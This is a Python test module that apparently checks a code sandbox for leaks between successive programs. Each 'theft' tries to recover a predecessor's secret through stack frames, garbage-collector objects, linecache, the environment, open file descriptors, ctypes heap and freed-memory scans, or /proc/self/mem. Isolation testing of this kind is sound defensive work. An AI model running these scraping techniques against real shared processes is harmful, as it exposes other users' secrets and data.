"""Programs that look for the source, the inputs and the output of the program before them.

Each is the body of a generator that yields what it can reach. In the harness below, where programs
share an interpreter, all of them find the secret of their predecessor.
"""

from __future__ import annotations

from dataclasses import dataclass

from attacks.escape import describe
from fugu.sandbox.execution import Limits, Program
from fugu.sandbox.executor import Executor

_LIMITS = Limits(cpu_seconds=5.0, wall_seconds=20.0, memory=512 << 20)

_THIEF = """
import ctypes, gc, os, re, struct, sys

SECRET = re.compile(rb"secret-[0-9a-f]{{16}}")

def places():
{places}

def as_bytes(thing):
    if isinstance(thing, str):
        return thing.encode("utf-8", "replace")
    if isinstance(thing, (bytes, bytearray)):
        return bytes(thing)
    if isinstance(thing, memoryview):
        return thing.tobytes()
    raw = getattr(thing, "raw", b"")
    return raw if isinstance(raw, bytes) else repr(thing)[:100000].encode("utf-8", "replace")

def pages(start, step, most=1 << 28):
    # Yield memory from an address on until a page is not mapped: write() fails there.
    libc = ctypes.CDLL(None, use_errno=True)
    libc.write.argtypes = ctypes.c_int, ctypes.c_void_p, ctypes.c_size_t
    reading, writing = os.pipe()
    kept, address = b"", start & ~4095
    for _ in range(most >> 12):
        if address < 4096 or libc.write(writing, address, 4096) != 4096:
            break
        page = os.read(reading, 4096)
        yield (kept[-32:] + page) if step > 0 else (page + kept[:32])
        kept, address = page, address + 4096 * step
    os.close(reading)
    os.close(writing)

def around(address):
    yield from pages(address, 1)
    yield from pages(address - 4096, -1)

def steal(*_):
    for thing in places():
        try:
            found = SECRET.findall(as_bytes(thing))
        except Exception:
            continue
        if found:
            return found[-1].decode()
    return None
"""

# Runs two programs in one interpreter, which keeps what a worker of the usual kind keeps.
_SHARED = """
import io, linecache, os, sys
PAST, BUFFER = [], bytearray(1 << 16)
def run(source, entry, given):
    names = {"__name__": "program", "given": given}
    exec(compile(source, "<program>", "exec"), names)
    PAST.append(names)
    return names[entry](given)
def begin(source):
    os.environ["JOB"] = source
    os.environb  # the C library's copy
    BUFFER[:len(source)] = source.encode()
    linecache.cache["<program>"] = len(source), None, source.splitlines(True), "<program>"
    os.write(os.memfd_create("job"), source.encode())
    sys.stdin = io.StringIO(source)
    sys.last_value = ValueError(source)
begin(VICTIM)
run(VICTIM, "f", EXPECTED)
print("passed" if run(THIEF, "steal", None) == EXPECTED else "failed")
"""
_VICTIM = "KEPT = {secret!r}\nheld = [object(), KEPT.encode()]\ndef f(x): return [KEPT, x]\n"


@dataclass(frozen=True)
class Theft:
    """A place to look for what an earlier program left.

    Attributes:
        name: The place.
        places: Body of a generator that yields what it finds there.
        category: What must be isolated from it.
    """

    name: str
    places: str
    category: str = "predecessors"

    @property
    def program(self) -> Program:
        """The program that looks there and returns the secret, or None."""
        lines = "\n".join(f"    {line}" for line in self.places.strip().splitlines())
        return Program(_THIEF.format(places=lines), "steal")

    def is_proven(self, unsafe: Executor, secret: str) -> bool:
        """Return whether it finds the secret of a program that shared its interpreter."""
        victim = _VICTIM.format(secret=secret)
        names = f"VICTIM = {victim!r}\nTHIEF = {self.program.source!r}\nEXPECTED = {secret!r}\n"
        return unsafe.run(names + _SHARED, limits=_LIMITS).stdout.strip() == "passed"

    def attempt(self, executor: Executor, secret: str) -> tuple[bool, str]:
        """Return whether it finds the secret of the program before it, and how it ended."""
        executor.run(Program(_VICTIM.format(secret=secret), "f"), [(secret,)])
        execution = executor.run(self.program, [()], _LIMITS)
        answers = [outcome.value for outcome in execution.outputs]
        return secret in answers, describe(execution)


THEFTS: tuple[Theft, ...] = (
    Theft("frames above its own", """
frame = sys._getframe()
while frame is not None:
    yield from list(frame.f_locals.values()) + list(frame.f_globals.values())
    frame = frame.f_back
"""),
    Theft("the frames of a traceback", """
try:
    raise ValueError
except ValueError as error:
    trace = error.__traceback__
    frame = trace.tb_frame
    while frame is not None:
        for names in (frame.f_locals, frame.f_globals, frame.f_code.co_consts):
            yield repr(names)[:1000000]
        frame = frame.f_back
"""),
    Theft("the frames of all threads", """
for frame in sys._current_frames().values():
    while frame is not None:
        yield from list(frame.f_locals.values()) + [repr(frame.f_globals)[:1000000]]
        frame = frame.f_back
"""),
    Theft("objects of the garbage collector", """
gc.unfreeze()
for thing in gc.get_objects():
    yield thing
    if type(thing) is dict:
        yield from list(thing.values())
    if type(thing) in (list, tuple, set):
        yield from list(thing)
"""),
    Theft("objects that refer to its globals", """
seen, todo = set(), [globals(), sys.modules, sys]
for _ in range(200000):
    if not todo:
        break
    thing = todo.pop()
    if id(thing) in seen:
        continue
    seen.add(id(thing))
    yield thing
    todo += gc.get_referrers(thing)[:50] if len(seen) < 500 else []
    todo += gc.get_referents(thing)
"""),
    Theft("contents of loaded modules", """
for module in list(sys.modules.values()):
    for thing in list(getattr(module, "__dict__", {}).values()):
        yield thing
        if isinstance(thing, (list, tuple)):
            yield from thing
"""),
    Theft("linecache", """
import linecache
for _, _, lines, _ in [entry for entry in linecache.cache.values() if len(entry) == 4]:
    yield from lines
"""),
    Theft("sys.last_value", """
for name in ("last_value", "last_exc", "last_type", "last_traceback"):
    yield repr(getattr(sys, name, None))
"""),
    Theft("standard input", """
yield sys.stdin.read() if sys.stdin else ""
os.lseek(0, 0, 0)
yield os.read(0, 1 << 20)
"""),
    Theft("the environment", """
yield repr(os.environ)
libc = ctypes.CDLL(None)
environ = ctypes.POINTER(ctypes.c_char_p).in_dll(libc, "environ")
for index in range(100):
    if not environ or not environ[index]:
        break
    yield environ[index]
"""),
    Theft("open files", """
for descriptor in range(64):
    try:
        yield os.pread(descriptor, 1 << 20, 0)
    except OSError:
        pass
"""),
    Theft("the heap", """
libc = ctypes.CDLL(None)
libc.malloc.restype = ctypes.c_void_p
libc.sbrk.restype = ctypes.c_void_p
yield from pages(libc.sbrk(0) - 4096, -1)
for size in (16, 64, 512, 4096, 1 << 16, 1 << 18):
    yield from around(libc.malloc(size))
"""),
    Theft("the interpreter's arenas", """
things = [object(), b"x" * 100, "y" * 300, [1] * 30, {1: 2}, 2**70, gc.get_objects()[0], steal, sys]
for thing in things:
    yield from around(id(thing))
"""),
    Theft("freed memory blocks", """
libc = ctypes.CDLL(None)
libc.malloc.restype = ctypes.c_void_p
for size in [2**k + d for k in range(5, 21) for d in (0, 1, 33)]:
    for _ in range(16):
        yield ctypes.string_at(libc.malloc(size), size)
yield from pages(libc.sbrk(0) & 0x7FFFFFFFFFFF, -1)
for thing in (object(), "x" * 50, b"y" * 200, [0] * 40):
    yield from around(id(thing))
"""),
    Theft("memory around interned strings", """
for thing in (sys.intern("x" * 8), sys.intern("secret"), "abc", "KEPT", "held"):
    yield from around(id(thing))
"""),
    Theft("the stack", """
here = ctypes.c_long(0)
frame = sys._getframe()
while frame is not None:
    yield repr(list(frame.f_locals.values()))[:1000000]
    frame = frame.f_back
yield from around(ctypes.addressof(here))
"""),
    Theft("/proc/self/mem", """
for line in open("/proc/self/maps"):
    where, rights, *_ = line.split()
    start, end = (int(number, 16) for number in where.split("-"))
    if rights.startswith("r") and end - start < 1 << 26:
        with open("/proc/self/mem", "rb") as file:
            file.seek(start)
            try:
                yield file.read(end - start)
            except (OSError, OverflowError):
                pass
"""),
)  # fmt: skip
